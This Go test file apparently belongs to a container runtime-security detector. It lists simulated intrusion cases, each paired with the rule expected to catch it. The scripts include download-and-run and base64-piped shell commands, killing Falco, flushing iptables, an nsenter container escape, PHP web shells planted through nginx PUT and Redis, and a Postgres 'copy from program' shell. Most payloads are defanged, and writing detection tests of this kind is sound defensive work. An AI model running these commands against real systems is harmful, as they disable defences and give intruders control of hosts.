package attack

import (
	"path/filepath"
	"regexp"

	"github.com/bollwerk/bollwerk"
)

// bringing are tools and habits that intruders bring along, each with the one rule that is
// there for it.
func bringing() []attackCase {
	seen := bollwerk.Seen
	return []attackCase{
		{name: "attack-tool", script: `printf '#!/bin/sh\nid > /dev/null\n' > /tmp/linpeas.sh; sh /tmp/linpeas.sh`, rules: []string{"attack-tool"}, least: high, outcome: seen},
		{name: "attack-tool-run", script: `printf '#!/bin/sh\nid > /dev/null\n' > /home/les.sh; chmod +x /home/les.sh; /home/les.sh`, rules: []string{"attack-tool"}, least: high, outcome: seen},
		{name: "cluster-client", tools: []string{"ctr"}, script: `ctr --address /run/none.sock containers ls; true`, rules: []string{"cluster-client-in-container"}, least: low, outcome: seen},
		{name: "debugger", tools: []string{"strace"}, script: `sleep 60 & p=$!; timeout -s INT 1 strace -o /tmp/s -p $p; kill $p`, opts: []option{privileged}, rules: []string{"debugger-in-container"}, least: low, outcome: seen},
		{name: "defence-killed", script: `pkill -x falco; true`, rules: []string{"defence-stopped"}, least: high, outcome: seen},
		{name: "defence-service", tools: []string{"service"}, script: `service rsyslog stop; true`, rules: []string{"defence-stopped"}, least: high, outcome: seen},
		{name: "firewall", tools: []string{"iptables"}, script: `iptables -F; true`, rules: []string{"firewall-flushed"}, least: medium, outcome: seen},
		{name: "firewall-open", tools: []string{"iptables"}, script: `iptables -P INPUT ACCEPT; true`, rules: []string{"firewall-flushed"}, least: medium, outcome: seen},
		{name: "hidden-script", script: `printf 'true\n' > /var/tmp/.x; sh /var/tmp/.x`, rules: []string{"hidden-program"}, least: medium, outcome: seen},
		{name: "hidden-folder", script: `mkdir '/home/...'; printf 'true\n' > '/home/.../run'; sh '/home/.../run'`, rules: []string{"hidden-program"}, least: medium, outcome: seen},
		{name: "immutable", script: `touch /home/f; chattr +i /home/f; true`, rules: []string{"immutable-flag-changed"}, least: medium, outcome: seen},
		{name: "build-tool", tools: []string{"make"}, script: `printf 'all:\n\tcp /bin/true /home/made\n\t/home/made\n' > /home/Makefile; make -s -f /home/Makefile`, rules: []string{"drift-by-build-tool"}, least: low, outcome: seen},
		{name: "privileged", script: `true`, opts: []option{privileged}, rules: []string{"privileged-container"}, least: low, outcome: seen, still: true},
		{name: "host-folder", script: `true`, opts: []option{hostFolder}, rules: []string{"privileged-container"}, least: low, outcome: seen, still: true},
		{name: "disk", script: `d=$(ls /sys/class/block | grep -E '^(sd[a-z]+|vd[a-z]+|xvd[a-z]+|nvme[0-9]+n[0-9]+)$' | head -n 1); mknod /home/d b $(tr ':' ' ' < /sys/class/block/$d/dev); head -c 512 /home/d > /home/k`, opts: []option{privileged},
			needs: disk(), rules: []string{"disk-device-opened"}, least: high, outcome: seen},
		// What the image of a hole in a container's walls is known for: files of the host by their number.
		{name: "file-handle", script: `python3 -c '
import ctypes,os,struct
l=ctypes.CDLL(None,use_errno=True);open("/run/x","w").close();h=ctypes.create_string_buffer(struct.pack("Ii",128,0)+bytes(128));m=ctypes.c_int()
l.syscall(303,-100,b"/run/x",h,ctypes.byref(m),0);print(l.syscall(304,os.open("/run",0),h,0),ctypes.get_errno())'`, opts: []option{privileged},
			rules: []string{"dangerous-capability-used"}, least: medium, outcome: seen},
		// A server that gave root away but kept a way back (CWE-273), and whoever took it over.
		{name: "became-root", script: `python3 -c '
import ctypes,os
l=ctypes.CDLL(None);os.setresuid(1000,1000,0);os.system("true")
l.syscall(126,ctypes.create_string_buffer(bytes.fromhex("22050820")+bytes(4)),ctypes.create_string_buffer(24));os.system("true")
os.setresuid(0,0,0);os.execv("/bin/sh",["sh","-c","id -u"])'`, opts: []option{ordinary}, rules: []string{"became-root"}, least: high, outcome: seen},
		{name: "download-by-file", script: timed + `curl -s -o /home/d.sh http://203.0.113.5/d; sh /home/d.sh`, rules: []string{"download-and-run"}, least: medium, outcome: seen},
		{name: "download-piped", script: timed + `bash -c 'curl -s http://203.0.113.5/x | sh'`, rules: []string{"download-and-run-command"}, least: medium, outcome: seen},
		{name: "decode-piped", script: `bash -c 'echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh'`, rules: []string{"decode-and-run-command"}, least: medium, outcome: seen},
		{name: "escape", script: `bash -c 'bash -c "nsenter -t 2 -m true; true"; true'`, opts: []option{administrator, hostPID}, rules: []string{"container-escape"}, least: high, outcome: seen},
		{name: "rare-domain", script: `getent hosts api.shop.com; sleep 2.5; python3 -c 'import socket;socket.getaddrinfo("control.intruder.net",443)'`, rules: []string{"rare-domain"}, least: medium, outcome: seen},
		{name: "password-guessing", script: `printf 'import socket\nfor i in range(45):\n s=socket.create_connection(("203.0.113.5",22));s.recv(64);s.sendall(b"SSH-2.0-x\\r\\n");s.close()\n' > /home/g.py; python3 /home/g.py`,
			rules: []string{"password-guessing"}, least: high, outcome: seen},
		// It hides its name, speaks to nobody's pool by name, and takes a processor before all others.
		{name: "miner-busy", script: `printf 'import os,socket\nos.setpriority(os.PRIO_PROCESS,0,-10);g="/proc/self/autogroup";os.path.exists(g) and open(g,"w").write("-10");s=socket.create_connection(("203.0.113.5",14433));s.sendall(b"\\x16\\x03\\x01")\nwhile True: pass\n' > /home/m.py
timeout 50 bash -c 'exec -a "[kworker/u8:2]" python3 /home/m.py'`, opts: []option{privileged, ample}, rules: []string{"miner"}, least: bollwerk.SeverityCritical, outcome: seen, slow: true},
	}
}

// servers are those that do for an intruder what he cannot do himself.
func servers() []attackCase {
	return []attackCase{
		{name: "web-script-put", tools: []string{"nginx", "curl"}, script: `mkdir -p /home/n; echo '<?php system($_GET["c"]);' > /home/x
printf 'daemon off; pid /home/n/p; error_log /home/n/e; user root; events{} http{access_log off; client_body_temp_path /home/n/b; server{listen 127.0.0.1:8097; root /var/www/html; dav_methods PUT;}}' > /home/n/c
nginx -c /home/n/c & for i in $(seq 80); do curl -fs -T /home/x http://127.0.0.1:8097/x.php && break; sleep 0.1; done; ls /var/www/html; kill %1`,
			rules: []string{"web-script-written"}, least: medium, outcome: bollwerk.Seen, by: "nginx"},
		{name: "web-script-saved", tools: []string{"nginx", "redis-server", "redis-cli"}, script: `redis-server --port 8096 --bind 127.0.0.1 --enable-protected-configs yes --save '' > /home/r & for i in $(seq 80); do redis-cli -p 8096 ping && break; sleep 0.1; done
for c in 'config set dir /var/www/html' 'config set dbfilename x.php' 'set a <?php' save; do redis-cli -p 8096 $c; done; ls /var/www/html; kill %1`,
			rules: []string{"web-script-written"}, least: medium, outcome: bollwerk.Seen, by: "redis-server"},
		{name: "database-shell", tools: []string{"/usr/lib/postgresql/15/bin/initdb", "setpriv"}, script: `B=/usr/lib/postgresql/15/bin; mkdir /home/d; chown postgres /home/d; cd /home/d
as() { setpriv --reuid=postgres --regid=postgres --clear-groups "$@"; }
as $B/initdb -D /home/d -A trust --no-sync > /dev/null; as $B/postgres -D /home/d -p 8095 -c listen_addresses=127.0.0.1 -c unix_socket_directories= -c fsync=off > /home/l 2>&1 &
for i in $(seq 300); do $B/pg_isready -q -h 127.0.0.1 -p 8095 && break; sleep 0.1; done
psql -q -h 127.0.0.1 -p 8095 -U postgres -c 'create table t(a text)' -c "copy t from program 'id; uname -a'" -c 'select * from t' -d postgres; kill %1`,
			opts: []option{ordinary}, rules: []string{"shell-from-server"}, least: high, outcome: bollwerk.Seen},
	}
}

// onHost are attacks outside of every container. Nothing there is ever stopped.
func onHost() []attackCase {
	seen := bollwerk.Seen
	return []attackCase{
		{name: "host-bpf", host: true, script: `python3 -c '
import ctypes,struct
l=ctypes.CDLL(None,use_errno=True);i=ctypes.create_string_buffer(bytes.fromhex("b700000000000000")+bytes.fromhex("9500000000000000"));g=ctypes.create_string_buffer(b"GPL")
a=ctypes.create_string_buffer(struct.pack("IIQQ",1,2,ctypes.addressof(i),ctypes.addressof(g))+bytes(96))
print(l.syscall(321,5,a,120),ctypes.get_errno())'`, rules: []string{"bpf-load-on-host"}, least: low, outcome: seen},
		// The kernel refuses this value: nothing of the machine is changed.
		{name: "host-setting", host: true, script: `echo 9 > /proc/sys/fs/suid_dumpable; true`, rules: []string{"kernel-setting-on-host"}, least: medium, outcome: seen, lsm: seen},
		{name: "host-module", host: true, script: `insmod /modules/dummy.ko; rmmod dummy`, hidden: "module", rules: []string{"kernel-module-on-host"}, least: medium, lsm: seen},
	}
}

// administrator may mount and join, though the container is not privileged.
func administrator(spec map[string]any) {
	all := []string{"CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_SYS_CHROOT", "CAP_DAC_OVERRIDE"}
	spec["process"].(map[string]any)["capabilities"] = map[string]any{"bounding": all, "effective": all, "permitted": all}
}

// hostFolder shows the container a folder of the host that says who may log in there.
func hostFolder(spec map[string]any) {
	spec["mounts"] = append(spec["mounts"].([]any), map[string]any{"destination": "/mnt", "type": "bind", "source": "/etc", "options": []string{"bind", "ro"}})
}

// ample gives the container a greater share of the processors than all others have.
func ample(spec map[string]any) {
	spec["linux"].(map[string]any)["resources"].(map[string]any)["cpu"] = map[string]any{"shares": 1 << 17}
}

// disk is where the kernel tells of the first disk of this machine.
func disk() string {
	all, _ := filepath.Glob("/sys/class/block/*")
	for _, d := range all {
		if regexp.MustCompile(`/(sd[a-z]+|vd[a-z]+|xvd[a-z]+|nvme[0-9]+n[0-9]+)$`).MatchString(d) {
			return d
		}
	}
	return "/sys/class/block/sda"
}
